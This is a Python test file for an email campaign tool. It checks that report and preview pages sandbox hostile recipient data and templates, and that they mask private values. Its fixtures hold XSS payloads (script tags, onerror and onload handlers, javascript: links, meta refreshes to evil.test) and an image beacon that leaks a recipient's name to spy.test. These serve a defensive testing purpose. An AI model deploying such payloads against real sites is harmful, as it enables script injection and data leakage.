"""Pages of reports and previews against hostile lists, subjects and templates: nothing of theirs can run, load or lead away."""

import asyncio
import json
from html.parser import HTMLParser
from pathlib import Path

import pytest
from typer.testing import CliRunner

from actors.renderer.look.document import POLICY, frame
from cluster.config import Config
from cluster.workbench import opened
from gateway.cli.main import build
from tests.unit.test_look import make

ATTACKS = [
    "<script>alert(1)</script>",
    "'\"><img src=x onerror=alert(1)>",
    "</iframe><script>alert(1)</script>",
    "--></style></title><script>alert(1)</script>",
    '" onload="alert(1)',
    "&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "<meta http-equiv=refresh content=0;url=https://evil.test>",
    "javascript:alert(1)",
]
PAGE = """<html><head><title>x</title></head><body onload="alert(1)"><script>alert(document.domain)</script>
<a href="javascript:alert(1)">{{ name }}</a><img src="https://spy.test/{{ name|urlencode }}"><img src="pic.png">
<form action="https://evil.test"><input></form><meta http-equiv="refresh" content="0;url=https://evil.test">{{ name|safe }}
<iframe src="https://evil.test"></iframe><svg onload="alert(1)"></svg>
{% if name == "</b><script>alert(2)</script>" %}x{% endif %}
</body></html>"""
CONTROL = """name: "<script>alert(1)</script>"
sender: {from: "Shop <news@shop.test>"}
content:
  subject: "{{ name }}"
  html: body.html
"""


class Reader(HTMLParser):
    """What a browser would find in the outer document, and in each frame's own document."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def read(html: str) -> list[tuple[str, dict[str, str | None]]]:
    reader = Reader()
    reader.feed(html)
    reader.close()
    return reader.tags


def harmless(html: str) -> list[str]:
    """Asserts that the page itself runs and loads nothing; gives its frames' documents."""
    frames = []
    first_meta = next(attrs for tag, attrs in read(html) if attrs.get("http-equiv"))
    assert first_meta == {"http-equiv": "Content-Security-Policy", "content": POLICY}
    for tag, attrs in read(html):
        assert tag not in {"script", "form", "object", "embed", "link", "base", "img", "a", "input"}, tag
        assert not [name for name in attrs if name.startswith("on") or name in {"href", "src", "action"}], (tag, attrs)
        assert tag != "meta" or attrs.get("http-equiv") in (None, "Content-Security-Policy")
        if tag == "iframe":
            assert attrs["sandbox"] == ""
            assert attrs["srcdoc"] is not None
            frames.append(attrs["srcdoc"])
    return frames


@pytest.fixture(scope="module")
def bundle(tmp_path_factory: pytest.TempPathFactory) -> Path:
    rows = "".join(f'u{n}@a.test,"{attack.replace(chr(34), chr(34) * 2)}"\n' for n, attack in enumerate(ATTACKS))
    folder = make(
        tmp_path_factory.mktemp("hostile") / "b", {"job.yaml": CONTROL, "body.html": PAGE, "list.csv": f"email,name\n{rows}"}
    )
    (folder / "pic.png").write_bytes(b"\x89PNG\r\n\x1a\n" + b"\0" * 40)
    return folder


def test_nothing_of_a_hostile_bundle_reaches_the_page_of_a_report(bundle: Path, tmp_path: Path) -> None:
    file = tmp_path / "report.html"
    result = CliRunner().invoke(build(), ["check", str(bundle), "--html", str(file), "--json"], catch_exceptions=False)
    assert result.exit_code == 0
    frames = harmless(file.read_text(encoding="utf-8"))
    assert len(frames) == len(json.loads(result.stdout)["samples"]) > 0
    for document in frames:
        tags = read(document)
        assert tags[0] == ("meta", {"http-equiv": "Content-Security-Policy", "content": POLICY})
        assert ("script", {}) in tags, "the mail is shown as it is; its frame is what holds it"
        assert [a["src"] for tag, a in tags if tag == "img" and (a.get("src") or "").startswith("data:image/png;base64,")]


@pytest.mark.parametrize("row", range(len(ATTACKS)))
def test_nothing_of_a_hostile_row_reaches_the_page_of_a_preview(bundle: Path, tmp_path: Path, row: int) -> None:
    file = tmp_path / "preview.html"
    CliRunner().invoke(build(), ["preview", str(bundle), "--row", str(row), "--html", str(file)], catch_exceptions=False)
    assert len(harmless(file.read_text(encoding="utf-8"))) == 1


def test_a_frame_cannot_be_left_by_any_markup() -> None:
    for attack in ATTACKS:
        tags = read(frame(attack * 2, {}))
        assert [tag for tag, _ in tags] == ["iframe"]
        assert attack * 2 in (tags[0][1]["srcdoc"] or "")


def test_policy_allows_embedded_pictures_and_styles_only() -> None:
    rules = dict(rule.strip().split(" ", 1) for rule in POLICY.split(";"))
    assert rules["default-src"] == "'none'"
    assert rules["img-src"] == "data:"
    assert "script-src" not in rules
    assert "connect-src" not in rules


def test_the_preview_page_has_headers_text_values_and_hides_private_ones(tmp_path: Path) -> None:
    control = (
        "name: p\nsender: {from: news@shop.test}\nlist: {private: [pin]}\ncontent: {subject: 'Hi {{ name }}', text: t.txt}\n"
        "delivery: {dsn: {notify: [failure]}}\n"
    )
    files = {
        "job.yaml": control,
        "t.txt": "Dear {{ name }}, {{ pin|mask_keep(1, 0) }}",
        "list.csv": "email,name,pin\na@a.test,Ann,9876\n",
    }
    file = tmp_path / "p.html"
    made = make(tmp_path / "b", files)
    shown = CliRunner().invoke(build(), ["preview", str(made), "--html", str(file)], catch_exceptions=False).stdout
    page = file.read_text(encoding="utf-8")
    assert str(file) in shown
    for part in ("<td>Subject</td><td>Hi Ann</td>", "Dear Ann, 9***", "<code>name</code></td><td>Ann</td>", "●●●●●●"):
        assert part in page
    assert "9876" not in page + shown
    assert {"Return-Path: <news@shop.test>", "Notifications: FAILURE HDRS"} <= set(shown.splitlines())
    assert "<td>Return-Path</td><td>news@shop.test</td>" in page


async def test_private_numbers_and_subjects_stay_out_of_the_report(tmp_path: Path) -> None:
    control = (
        "name: p\nsender: {from: news@shop.test}\nlist: {private: [pin]}\n"
        "content: {subject: 'Pin {{ pin }}', text: t.txt, allow_private: [pin]}\n"
    )
    files = {
        "job.yaml": control,
        "t.txt": "x {{ pin }} {{ pin|fmt_number }}",
        "list.csv": "email,pin\na@a.test,9876\nb@a.test,5432\n",
    }
    async with opened(make(tmp_path / "b", files), Config()) as bench:
        report = await bench.look()
    assert [s["private"] for s in report["slots"]] == [True] * 3
    assert [s["distinct"] for s in report["slots"]] == [2] * 3
    text = json.dumps({key: value for key, value in report.items() if key != "samples"})
    assert not [secret for secret in ("9876", "9,876", "5432") if secret in text]
    assert (report["subject"]["longest"]["chars"], report["subject"]["longest"]["text"]) == (8, "")


def test_a_report_of_no_rows_can_be_shown(tmp_path: Path) -> None:
    files = {"job.yaml": CONTROL, "body.html": "{{ skip_recipient(true, 'all') }}", "list.csv": "email,name\na@a.test,x\n"}

    async def look() -> dict[str, object]:
        async with opened(make(tmp_path / "b", files), Config()) as bench:
            return await bench.look()

    from actors.renderer.look.page import page

    assert "0 mails would leave" in page(asyncio.run(look()))
